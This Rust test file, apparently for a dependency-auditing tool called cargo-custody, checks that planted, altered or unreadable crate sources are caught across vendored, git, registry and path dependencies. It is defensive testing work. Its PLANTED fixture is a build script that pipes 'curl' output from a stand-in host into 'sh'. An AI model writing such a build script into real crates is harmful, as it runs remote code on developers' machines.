//! Every kind of source that cargo compiles crates from, each clean, with a build script planted, and with
//! one that cannot be read. What is clean passes, what is planted is found, what is unreadable never passes.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on may stop")]

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use cargo_custody::domain::hash::hex;
use custody_bytes::gzip_tar::pack::pack;
use serde_json::Value;
use sha2::{Digest as _, Sha256};

const REGISTRY: &str = "registry+https://github.com/rust-lang/crates.io-index";

/// A build script as most are, and one that runs what it fetches.
const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";

/// Where the crate `dep` comes from.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Source {
    /// It is the project itself.
    Member,
    /// A path dependency inside the project.
    Path,
    /// A path dependency outside of the audited folder, in the same repository.
    Beside,
    /// A registry's crate, patched by a folder of the project.
    Patched,
    /// A git checkout in cargo's home.
    Git,
    /// A folder that the project's configuration vendors.
    Vendored,
    /// The same, configured above the project's folder.
    VendoredAbove,
    /// A git dependency that is vendored.
    VendoredGit,
    /// A `paths` override.
    Override,
    /// A folder of archives.
    LocalRegistry,
    /// An archive in cargo's cache.
    Registry,
}

use Source::{
    Beside, Git, LocalRegistry, Member, Override, Patched, Registry, Vendored, VendoredAbove,
    VendoredGit,
};

const ALL: [Source; 11] = [
    Member,
    Source::Path,
    Beside,
    Patched,
    Git,
    Vendored,
    VendoredAbove,
    VendoredGit,
    Override,
    LocalRegistry,
    Registry,
];
/// Those of which the lockfile promises an archive that cargo does not compile.
const COPIES: [Source; 3] = [Vendored, VendoredAbove, Override];
const COMMIT: &str = "0123456789012345678901234567890123456789";
const REPOSITORY: &str = "https://git.example.invalid/dep";

struct Project {
    top: tempfile::TempDir,
    elsewhere: tempfile::TempDir,
}

struct Run {
    code: i32,
    report: Value,
    told: String,
}

impl Run {
    /// `level rule subject` of every finding above `note`, ordered.
    fn findings(&self) -> Vec<String> {
        let findings = self.report["findings"].as_array().into_iter().flatten();
        let mut all: Vec<String> = findings
            .filter(|finding| finding["level"] != "note")
            .map(|finding| {
                let word = |value: &Value| value.as_str().unwrap_or("-").to_owned();
                let subject = word(&finding["subject"]["name"]);
                format!("{} {} {subject}", word(&finding["level"]), word(&finding["rule"]))
            })
            .collect();
        all.sort();
        all
    }
}

impl Project {
    /// A project that depends on `dep`, or is it; `dep` has the given build script, and where something is
    /// published of it, that has the honest one.
    fn new(source: Source, script: &str) -> Self {
        let project =
            Self { top: tempfile::tempdir().unwrap(), elsewhere: tempfile::tempdir().unwrap() };
        let published = archive(if COPIES.contains(&source) { HONEST } else { script });
        project.publish(source, &published);
        let git = format!("git+{REPOSITORY}?rev={COMMIT}#{COMMIT}");
        let (dependency, from) = match source {
            Member => ("", None),
            Source::Path => ("[dependencies]\ndep = { path = \"libs/dep\" }\n", None),
            Beside => ("[dependencies]\ndep = { path = \"../beside/dep\" }\n", None),
            Patched => (
                "[dependencies]\ndep = \"1\"\n[patch.crates-io]\ndep = { path = \"libs/dep\" }\n",
                None,
            ),
            Git | VendoredGit => (
                "[dependencies]\ndep = { git = \"https://git.example.invalid/dep\", rev = \"0123456789012345678901234567890123456789\" }\n",
                Some(git),
            ),
            Vendored | VendoredAbove | Override | LocalRegistry | Registry => (
                "[dependencies]\ndep = \"1\"\n",
                Some(format!("{REGISTRY}\"\nchecksum = \"{}", sha256(&published))),
            ),
        };
        let (app, needs) =
            if source == Member { ("dep", "") } else { ("app", "dependencies = [\"dep\"]\n") };
        let mut lock = format!("version = 4\n{}", package(app, None, needs));
        if source != Member {
            lock.push_str(&package("dep", from.as_deref(), ""));
        }
        project.write("Cargo.lock", &lock);
        project.write("Cargo.toml", &format!("{}{dependency}", manifest(app)));
        project.write("src/lib.rs", "");
        project.configure(source);
        for (file, text) in files(script) {
            if !(source == Member && file == "Cargo.toml") {
                project.put(source, file, text.as_str());
            }
        }
        project
    }

    /// Puts the archive of `dep` where cargo would have it.
    fn publish(&self, source: Source, archive: &[u8]) {
        let folder = match source {
            Vendored | VendoredAbove | Override | Registry => {
                "cargo/registry/cache/mirror.example.invalid-0123456789abcdef"
            }
            LocalRegistry => "project/registry",
            Member | Source::Path | Beside | Patched | Git | VendoredGit => return,
        };
        let folder = self.top.path().join(folder);
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join("dep-1.0.0.crate"), archive).unwrap();
    }

    fn configure(&self, source: Source) {
        let replaced = "[source.crates-io]\nreplace-with = \"here\"\n[source.here]\n";
        let at = |file: &str, text: &str| {
            let path = self.top.path().join(file);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        let own = "project/.cargo/config.toml";
        match source {
            Member | Source::Path | Patched | Registry => {}
            Beside => at(".git/HEAD", "ref: refs/heads/main\n"),
            Git => {
                let checkout = "cargo/git/checkouts/dep-0123456789abcdef/0123456";
                at(&format!("{checkout}/.git/HEAD"), COMMIT);
                at(&format!("{checkout}/.cargo-ok"), "");
            }
            Vendored => at(own, &format!("{replaced}directory = \"vendor\"\n")),
            VendoredAbove => {
                at(".cargo/config.toml", &format!("{replaced}directory = \"project/vendor\"\n"));
            }
            VendoredGit => {
                let git = format!(
                    "[source.fork]\ngit = \"{REPOSITORY}\"\nrev = \"{COMMIT}\"\nreplace-with = \"here\"\n"
                );
                at(own, &format!("{git}[source.here]\ndirectory = \"vendor\"\n"));
            }
            Override => at(own, "paths = [\"forks\"]\n"),
            LocalRegistry => at(own, &format!("{replaced}local-registry = \"registry\"\n")),
        }
    }

    fn root(&self) -> PathBuf {
        self.top.path().join("project")
    }

    fn write(&self, file: &str, text: &str) {
        let path = self.root().join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// Where the files of `dep` are; nowhere where it is an archive.
    fn folder(&self, source: Source) -> Option<PathBuf> {
        Some(self.top.path().join(match source {
            Member => "project",
            Source::Path | Patched => "project/libs/dep",
            Beside => "beside/dep",
            Git => "cargo/git/checkouts/dep-0123456789abcdef/0123456/dep",
            Vendored | VendoredAbove | VendoredGit => "project/vendor/dep",
            Override => "project/forks/dep",
            LocalRegistry | Registry => return None,
        }))
    }

    /// Writes a file of `dep`.
    fn put(&self, source: Source, file: &str, text: &str) {
        let Some(folder) = self.folder(source) else { return };
        let path = folder.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// Makes the build script of `dep` one that cannot be read.
    #[cfg(unix)]
    fn hide(&self, source: Source) {
        if let Some(folder) = self.folder(source) {
            let outside = self.elsewhere.path().join("outside.rs");
            fs::write(&outside, PLANTED).unwrap();
            fs::remove_file(folder.join("build.rs")).unwrap();
            std::os::unix::fs::symlink(outside, folder.join("build.rs")).unwrap();
            return;
        }
        // Half an archive, with the hash that the lockfile pins.
        let whole = archive(HONEST);
        let half = &whole[..whole.len() / 2];
        self.publish(source, half);
        let lock = fs::read_to_string(self.root().join("Cargo.lock")).unwrap();
        self.write("Cargo.lock", &lock.replace(&sha256(&whole), &sha256(half)));
    }

    fn check(&self) -> Run {
        self.check_with(&[])
    }

    fn check_with(&self, arguments: &[&str]) -> Run {
        let run = |format: &str| {
            Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
                .arg("check")
                .arg(self.root())
                .args(["--offline", "--as-of", "2026-11-23", "--format", format, "--cache-dir"])
                .arg(self.top.path().join("cache"))
                .args(arguments)
                .env_clear()
                .env("HOME", self.top.path())
                .env("COLUMNS", "200")
                .env("CARGO_HOME", self.top.path().join("cargo"))
                .output()
                .unwrap()
        };
        let (json, told) = (run("json"), run("human"));
        assert_eq!(json.status.code(), told.status.code());
        Run {
            code: json.status.code().unwrap(),
            report: serde_json::from_slice(&json.stdout).unwrap_or(Value::Null),
            // Lines break wherever a terminal ends.
            told: [&told.stdout, &told.stderr]
                .map(|text| String::from_utf8_lossy(text).into_owned())
                .concat()
                .split_whitespace()
                .collect::<Vec<_>>()
                .join(" "),
        }
    }
}

fn manifest(name: &str) -> String {
    format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2021\"\n")
}

/// The files of `dep`.
fn files(script: &str) -> [(&'static str, String); 4] {
    [
        ("Cargo.toml", manifest("dep")),
        ("src/lib.rs", String::new()),
        ("build.rs", script.to_owned()),
        ("tests/all.rs", "// nothing yet\n".to_owned()),
    ]
}

/// `dep` as it is published.
fn archive(script: &str) -> Vec<u8> {
    let mut all: Vec<(String, Vec<u8>)> =
        files(script).into_iter().map(|(file, text)| (file.to_owned(), text.into())).collect();
    // What `cargo vendor` leaves out.
    all.push((".gitignore".to_owned(), b"/target\n".to_vec()));
    pack("dep-1.0.0", &all).unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// An entry of a lockfile; a checksum comes with the source.
fn package(name: &str, source: Option<&str>, more: &str) -> String {
    let source = source.map(|source| format!("source = \"{source}\"\n")).unwrap_or_default();
    format!("\n[[package]]\nname = \"{name}\"\nversion = \"1.0.0\"\n{source}{more}")
}

#[test]
fn what_is_clean_passes_in_full_from_every_kind_of_source() {
    for source in ALL {
        let run = Project::new(source, HONEST).check();
        assert_eq!((run.code, run.findings()), (0, vec![]), "{source:?} {}", run.told);
        let coverage = &run.report["coverage"]["source"];
        assert_eq!(coverage["known"], coverage["of"], "{source:?} {}", run.told);
    }
}

#[test]
fn a_planted_build_script_is_found_in_every_kind_of_source() {
    for source in ALL {
        let run = Project::new(source, PLANTED).check();
        let has = |rule: &str| run.findings().contains(&format!("high {rule} dep"));
        assert!(has("build-fetches-and-executes"), "{source:?} {}", run.told);
        assert_eq!(has("vendored-source-altered"), COPIES.contains(&source), "{}", run.told);
        assert_eq!(run.code, 1, "{source:?}");
    }
}

#[cfg(unix)]
#[test]
fn a_build_script_that_cannot_be_read_never_passes() {
    for source in ALL {
        let project = Project::new(source, HONEST);
        project.hide(source);
        let run = project.check_with(&["--fail-on", "never"]);
        assert_eq!(run.code, 3, "{source:?} {}", run.told);
        assert!(run.told.contains("incomplete: "), "{source:?} {}", run.told);
        let coverage = &run.report["coverage"]["source"];
        let [of, known] = ["of", "known"].map(|key| coverage[key].as_u64().unwrap());
        assert_eq!(of - known, 1, "{source:?} {}", run.told);
        // Who has looked at it can say so.
        let accepted = project.check_with(&["--fail-on", "never", "--allow-unread", "dep"]);
        assert_eq!(accepted.code, 0, "{source:?} {}", accepted.told);
    }
}

#[test]
fn a_copy_without_its_tests_is_low_and_one_with_other_code_high() {
    let project = Project::new(Vendored, HONEST);
    let folder = project.folder(Vendored).unwrap();
    fs::remove_file(folder.join("tests/all.rs")).unwrap();
    assert_eq!(project.check().findings(), ["low vendored-file-altered dep"]);
    project.put(Vendored, "src/lib.rs", "pub fn more() {}\n");
    let run = project.check();
    assert_eq!(run.findings(), ["high vendored-source-altered dep"]);
    assert!(run.told.contains("changed: src/lib.rs"), "{}", run.told);
}

#[test]
fn a_copy_whose_archive_is_not_at_hand_is_read_and_the_comparison_is_not_determined() {
    let project = Project::new(Vendored, HONEST);
    fs::remove_dir_all(project.top.path().join("cargo")).unwrap();
    let run = project.check();
    assert_eq!((run.code, run.findings()), (0, vec![]), "{}", run.told);
    let open = run.report["undetermined"].as_array().unwrap();
    assert!(open.iter().any(|one| one["what"] == "source.altered"), "{open:?}");
}

#[test]
fn a_crate_that_is_not_where_it_should_be_never_passes() {
    for (source, why) in [
        (Vendored, "does not hold this version"),
        (Git, "not on this machine"),
        (LocalRegistry, "does not hold this version"),
        (Beside, "a path outside the project"),
    ] {
        let project = Project::new(source, HONEST);
        match source {
            LocalRegistry => fs::remove_dir_all(project.root().join("registry")).unwrap(),
            Git => fs::remove_dir_all(project.top.path().join("cargo")).unwrap(),
            Beside => fs::remove_dir_all(project.top.path().join(".git")).unwrap(),
            _ => fs::remove_dir_all(project.folder(source).unwrap()).unwrap(),
        }
        let run = project.check();
        assert_eq!(run.code, 3, "{source:?} {}", run.told);
        assert!(run.told.contains(why), "{source:?} {}", run.told);
    }
}

#[test]
fn other_bytes_in_a_local_registry_are_found_and_never_pass() {
    let project = Project::new(LocalRegistry, HONEST);
    project.publish(LocalRegistry, &archive(PLANTED));
    let run = project.check();
    assert_eq!(run.findings(), ["critical checksum-mismatch dep"], "{}", run.told);
    assert_eq!(run.code, 1);
    assert_eq!(project.check_with(&["--fail-on", "never"]).code, 3);
}

#[test]
fn a_vendored_folder_that_its_own_list_contradicts_is_found() {
    let project = Project::new(Vendored, HONEST);
    let list = |script: &str, package: &str| {
        let files: Vec<String> = files(script)
            .iter()
            .map(|(file, text)| format!("\"{file}\":\"{}\"", sha256(text.as_bytes())))
            .collect();
        format!("{{\"files\":{{{}}},\"package\":\"{package}\"}}", files.join(","))
    };
    let right = sha256(&archive(HONEST));
    let put = |text: &str| project.put(Vendored, ".cargo-checksum.json", text);
    put(&list(HONEST, &right));
    let run = project.check();
    assert_eq!((run.code, run.findings()), (0, vec![]), "{}", run.told);
    for (text, told) in [
        (list(PLANTED, &right), "other bytes: build.rs"),
        (list(HONEST, &sha256(b"another")), "other bytes: the archive as a whole"),
    ] {
        put(&text);
        let run = project.check();
        assert_eq!(run.findings(), ["medium vendored-list-contradicts dep"], "{}", run.told);
        assert!(run.told.contains(told), "{}", run.told);
    }
    put("[\"no list\"]");
    let open = project.check().report["undetermined"].to_string();
    assert!(open.contains("source.contradicted"), "{open}");
}

/// Runs git in a folder that it may make; the answer is what it says.
fn git(folder: &std::path::Path, arguments: &[&str]) -> String {
    fs::create_dir_all(folder).unwrap();
    let output = Command::new("git")
        .args([
            "-c",
            "user.name=x",
            "-c",
            "user.email=x@example.invalid",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(["-c", "protocol.file.allow=always", "-c", "commit.gpgsign=false"])
        .args(arguments)
        .current_dir(folder)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", folder)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// A repository with these files, cloned to where cargo keeps its clones; the answer is its commit.
fn clone(project: &Project, name: &str, files: &[(&str, String)]) -> String {
    let folder = working_copy(project, name, files);
    git(&folder, &["add", "."]);
    database(project, name)
}

/// A repository with these files, none of them committed.
fn working_copy(project: &Project, name: &str, files: &[(&str, String)]) -> PathBuf {
    let folder = project.elsewhere.path().join(name);
    for (file, text) in files {
        let path = folder.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    git(&folder, &["init", "-q"]);
    folder
}

fn database(project: &Project, name: &str) -> String {
    let folder = project.elsewhere.path().join(name);
    git(&folder, &["commit", "-q", "-m", "all"]);
    let to = project.top.path().join(format!("cargo/git/db/{name}-0123456789abcdef"));
    let to = to.to_str().unwrap();
    git(&folder, &["clone", "-q", "--bare", ".", to]);
    git(&folder, &["rev-parse", "HEAD"])
}

/// Locks another commit than the one of the checkout.
fn lock_commit(project: &Project, commit: &str) {
    for file in ["Cargo.lock", "Cargo.toml"] {
        let text = fs::read_to_string(project.root().join(file)).unwrap();
        project.write(file, &text.replace(COMMIT, commit));
    }
}

#[test]
fn a_clone_of_cargos_without_a_checkout_is_read_at_the_locked_commit() {
    for (script, code) in [(HONEST, 0), (PLANTED, 1)] {
        let project = Project::new(Git, HONEST);
        fs::remove_dir_all(project.top.path().join("cargo")).unwrap();
        let commit = clone(&project, "dep", &files(script));
        lock_commit(&project, &commit);
        let run = project.check();
        assert_eq!(run.code, code, "{}", run.told);
        let coverage = &run.report["coverage"]["source"];
        assert_eq!(coverage["known"], coverage["of"], "{}", run.told);
        let other = "f".repeat(40);
        let text = fs::read_to_string(project.root().join("Cargo.lock")).unwrap();
        project.write("Cargo.lock", &text.replace(&commit, &other));
        let run = project.check();
        assert_eq!(run.code, 3, "a clone without the commit: {}", run.told);
        assert!(run.told.contains("not on this machine"), "{}", run.told);
    }
}

#[test]
fn a_submodule_is_read_from_its_own_clone_and_named_where_there_is_none() {
    let project = Project::new(Git, HONEST);
    fs::remove_dir_all(project.top.path().join("cargo")).unwrap();
    clone(&project, "inner", &[("work.rs", PLANTED.to_owned())]);
    let folder = working_copy(&project, "dep", &files("include!(\"inner/work.rs\");\n"));
    let inner = project.elsewhere.path().join("inner");
    git(&folder, &["submodule", "--quiet", "add", inner.to_str().unwrap(), "inner"]);
    git(&folder, &["add", "."]);
    let commit = database(&project, "dep");
    lock_commit(&project, &commit);
    let run = project.check();
    assert!(
        run.findings().contains(&"high build-fetches-and-executes dep".to_owned()),
        "{}",
        run.told
    );
    fs::remove_dir_all(project.top.path().join("cargo/git/db/inner-0123456789abcdef")).unwrap();
    let run = project.check_with(&["--fail-on", "never"]);
    assert_eq!(run.code, 3, "{}", run.told);
    assert!(run.told.contains("a submodule whose commit"), "{}", run.told);
}

#[test]
fn configuration_that_cannot_be_read_leaves_the_source_of_registry_crates_open() {
    let project = Project::new(Vendored, HONEST);
    project.write(".cargo/config.toml", "[source");
    assert_eq!(project.check().code, 3);
}
